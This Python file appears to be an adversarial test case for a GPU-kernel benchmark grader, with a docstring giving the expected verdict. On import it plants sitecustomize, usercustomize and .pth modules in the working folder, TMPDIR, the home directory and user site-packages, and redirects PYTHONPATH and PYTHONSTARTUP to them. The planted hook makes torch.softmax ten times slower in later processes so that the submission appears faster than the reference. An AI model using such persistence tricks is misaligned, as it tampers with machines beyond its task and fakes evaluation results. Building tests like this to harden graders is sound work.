"""expect: correct, at most 2x

Leaves modules behind that every later Python picks up by itself (sitecustomize, usercustomize, a .pth file), wherever
it may write, and points PYTHONPATH, PYTHONUSERBASE and PYTHONSTARTUP at them. In another process they make softmax
ten times slower: the reference's, if it starts in the same folder, home or environment.
"""

import contextlib
import os
import site
import sys
from pathlib import Path

import torch
import torch.nn as nn

_PAYLOAD = """
import sys
class _Later:
    def find_spec(self, name, path=None, target=None):
        if name == "kbench_problem" or name == "torch.nn.functional":
            import torch
            stock = torch.softmax
            torch.softmax = lambda *a, **o: [stock(*a, **o) for _ in range(10)][-1]
            sys.meta_path.remove(self)
sys.meta_path.insert(0, _Later())
"""
_OWN = Path(os.environ.get("TMPDIR", "."))
_PLACES = (Path(), _OWN, Path.home(), Path(site.getusersitepackages()))


def _leave_behind(folder):
    with contextlib.suppress(OSError):
        folder.mkdir(parents=True, exist_ok=True)
        for name in ("sitecustomize.py", "usercustomize.py"):
            (folder / name).write_text(_PAYLOAD)
        (folder / "later.pth").write_text("import sitecustomize\n")


for _place in _PLACES:
    _leave_behind(_place)
os.environ.update(PYTHONPATH=str(_OWN.resolve()), PYTHONSTARTUP=str(_OWN.resolve() / "sitecustomize.py"))
for _entry in filter(None, sys.path):
    if os.access(_entry, os.W_OK) and Path(_entry).resolve() not in {place.resolve() for place in _PLACES}:
        raise RuntimeError(f"{_entry} can be written: every later Python of this machine can be changed")


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.softmax(x, dim=1)
